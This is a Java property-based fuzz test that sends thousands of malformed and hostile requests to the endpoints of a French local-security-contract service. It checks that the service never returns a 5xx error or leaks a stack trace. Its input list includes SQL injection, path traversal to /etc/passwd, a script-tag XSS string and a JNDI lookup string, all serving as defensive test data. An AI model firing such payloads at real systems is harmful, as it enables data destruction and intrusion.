package fr.interieur.cls.command.security;

import fr.interieur.cls.command.CommandSideApplication;
import fr.interieur.cls.testsupport.ContractScenario;
import fr.interieur.cls.testsupport.Http;
import net.jqwik.api.Arbitraries;
import net.jqwik.api.Arbitrary;
import net.jqwik.api.Combinators;
import net.jqwik.api.ForAll;
import net.jqwik.api.Property;
import net.jqwik.api.Provide;
import net.jqwik.api.lifecycle.AfterContainer;
import net.jqwik.api.lifecycle.BeforeContainer;
import org.springframework.boot.builder.SpringApplicationBuilder;
import org.springframework.boot.web.context.WebServerApplicationContext;
import org.springframework.context.ConfigurableApplicationContext;

import java.util.List;
import java.util.stream.Collectors;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Thousands of hostile requests against every command endpoint (wrong types, impossible dates, control
 * characters, SQL-looking text, deep or huge JSON, absurd headers): each one gets a 2xx or a 4xx problem, never a
 * 5xx, never a stack trace or a class name.
 */
class HostileInputIT {

    private static ConfigurableApplicationContext service;
    private static ContractScenario scenario;

    @BeforeContainer
    static void start() {
        service = new SpringApplicationBuilder(CommandSideApplication.class).run("--server.port=0");
        int port = ((WebServerApplicationContext) service).getWebServer().getPort();
        scenario = new ContractScenario(port).readyToSign();
    }

    @AfterContainer
    static void stop() {
        service.close();
    }

    private static final List<String> PATHS = List.of(
            "/districts", "/districts/{district}/sectors", "/districts/{district}/proximity-policing", "/contracts",
            "/contracts/{contract}/partners", "/contracts/{contract}/diagnostic", "/contracts/{contract}/actions",
            "/contracts/{contract}/actions/A1/progress", "/contracts/{contract}/signature",
            "/contracts/{contract}/chair-delegations", "/contracts/{contract}/committee-meetings",
            "/contracts/{contract}/communications", "/contracts/{contract}/review-meetings",
            "/contracts/{contract}/amendments", "/contracts/{contract}/assessments",
            "/contracts/{contract}/follow-up-transfers", "/contracts/{contract}/end");

    private static final List<String> FIELDS = List.of(
            "districtId", "name", "departement", "population", "communes", "sectorId", "quartiers", "wave", "startedOn",
            "contractId", "title", "scope", "districtIds", "sectorIds", "populationCovered", "supersedes", "partnerId",
            "category", "communeCode", "adoptedOn", "delinquency", "perception", "responses", "sectorFindings",
            "actionId", "theme", "objective", "leadPartnerId", "partnerIds", "startOn", "endOn", "budget", "indicators",
            "status", "measurements", "note", "signedOn", "signatures", "sousPrefet", "from", "to", "meetingId",
            "heldOn", "chair", "attendees", "actionsReviewed", "decisions", "nextMeetingOn", "channel", "audience",
            "summary", "participants", "amendmentId", "addCommunes", "removeCommunes", "addSectorIds",
            "removeSectorIds", "year", "results", "impact", "followUpConditions", "proposals", "correction", "council",
            "transferredOn", "endedOn", "reason", "supersededBy", "actor");

    @Property(tries = 3000)
    void hostileBodiesAreRefusedWithProblems(@ForAll("paths") String path, @ForAll("bodies") String body,
                                             @ForAll("headers") List<String> headers) {
        Http http = scenario.http;
        for (int i = 0; i + 1 < headers.size(); i += 2) {
            http = http.header(headers.get(i), headers.get(i + 1));
        }
        String method = path.endsWith("/diagnostic") ? "PUT" : "POST";
        check(http.send(method, path.replace("{district}", scenario.district).replace("{contract}", scenario.contract),
                        body));
    }

    @Property(tries = 500)
    void hostileIdentifiersInPathsAreRefusedWithProblems(@ForAll("paths") String path, @ForAll("hostileText") String id) {
        String encoded = java.net.URLEncoder.encode(id, java.nio.charset.StandardCharsets.UTF_8).replace("+", "%20");
        check(scenario.http.send(path.endsWith("/diagnostic") ? "PUT" : "POST",
                                 path.replace("{district}", encoded).replace("{contract}", encoded), "{}"));
    }

    private static void check(Http.Response response) {
        assertThat(response.status()).as(response.toString()).isLessThan(500);
        if (response.status() >= 400) {
            assertThat(response.header("Content-Type")).as(response.toString()).startsWith("application/problem+json");
            assertThat(response.body()).doesNotContain("Exception").doesNotContain("at org.").doesNotContain("at java.")
                                       .doesNotContain("at fr.").doesNotContain("fr.interieur").doesNotContain("org.axon");
        }
    }

    @Provide
    Arbitrary<String> paths() {
        return Arbitraries.of(PATHS);
    }

    @Provide
    Arbitrary<List<String>> headers() {
        Arbitrary<String> name = Arbitraries.of("If-Match", "Idempotency-Key", "X-Reason", "X-Correlation-Id",
                                                "Content-Type");
        Arbitrary<String> value = Arbitraries.oneOf(hostileText().map(HostileInputIT::headerSafe),
                                                    Arbitraries.of("\"1\"", "*", "W/\"3\"", "-1", "\"99999999999999999999\"",
                                                                   "application/json", "application/xml", "text/plain"));
        return Combinators.combine(name, value).as(List::of).list().ofMaxSize(3)
                          .map(pairs -> pairs.stream().flatMap(List::stream).toList());
    }

    private static String headerSafe(String text) {
        String ascii = text.chars().filter(c -> c >= 0x20 && c < 0x7F).mapToObj(c -> String.valueOf((char) c))
                           .collect(Collectors.joining());
        return ascii.isEmpty() ? "x" : ascii.substring(0, Math.min(ascii.length(), 300));
    }

    @Provide
    Arbitrary<String> hostileText() {
        return texts();
    }

    private static Arbitrary<String> texts() {
        return Arbitraries.oneOf(
                Arbitraries.of("'; DROP TABLE domain_event_entry; --", "1 OR 1=1", "\" OR \"\"=\"", "../../etc/passwd",
                               "%00", "\u0000", "<script>alert(1)</script>", "${jndi:ldap://x/a}", "NaN", "-0", "1e400",
                               "\uD800", "\uDFFF\uD800", "Ⅻ", "é\u0301", "\u202E", "\t\n\r", "   ", ""),
                Arbitraries.strings().ofMaxLength(80),
                Arbitraries.strings().withCharRange('\u0000', '\u001F').ofMinLength(1).ofMaxLength(10),
                Arbitraries.strings().all().ofMaxLength(40));
    }

    @Provide
    Arbitrary<String> bodies() {
        Arbitrary<String> json = jsonValue(4);
        Arbitrary<String> object = Combinators.combine(Arbitraries.of(FIELDS), json).as(HostileInputIT::member)
                                              .list().ofMaxSize(12)
                                              .map(members -> "{" + String.join(",", members) + "}");
        return Arbitraries.oneOf(object, object, object, json,
                                 Arbitraries.integers().between(1, 200).map(depth -> "[".repeat(depth) + "]".repeat(depth)),
                                 Arbitraries.integers().between(1, 200).map(depth -> "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)),
                                 Arbitraries.integers().between(1000, 200_000).map(n -> "{\"title\":\"" + "é".repeat(n) + "\"}"),
                                 texts());
    }

    private static String member(String field, String value) {
        return quote(field) + ":" + value;
    }

    private static Arbitrary<String> jsonValue(int depth) {
        Arbitrary<String> leaf = Arbitraries.oneOf(
                texts().map(HostileInputIT::quote),
                Arbitraries.of("null", "true", "false", "0", "-1", "1.5", "1e308", "-1e-400", "99999999999999999999999",
                               "\"2000-02-30\"", "\"2000-13-01\"", "\"1999-01-15\"", "\"2999-01-01\"", "\"69\"", "\"2A\"",
                               "\"69123\"", "\"PREFET\"", "\"MEDIATION\"", "\"IN_PROGRESS\"", "\"1\"", "\"EXPIRED\""),
                Arbitraries.longs().map(String::valueOf));
        if (depth == 0) {
            return leaf;
        }
        Arbitrary<String> inner = Arbitraries.lazy(() -> jsonValue(depth - 1));
        return Arbitraries.oneOf(leaf, leaf,
                                 inner.list().ofMaxSize(4).map(values -> "[" + String.join(",", values) + "]"),
                                 Combinators.combine(Arbitraries.of(FIELDS), inner).as(HostileInputIT::member)
                                            .list().ofMaxSize(4).map(members -> "{" + String.join(",", members) + "}"));
    }

    private static String quote(String text) {
        StringBuilder quoted = new StringBuilder("\"");
        for (char c : text.toCharArray()) {
            switch (c) {
                case '"' -> quoted.append("\\\"");
                case '\\' -> quoted.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        quoted.append(String.format("\\u%04x", (int) c));
                    } else {
                        quoted.append(c);
                    }
                }
            }
        }
        return quoted.append('"').toString();
    }
}
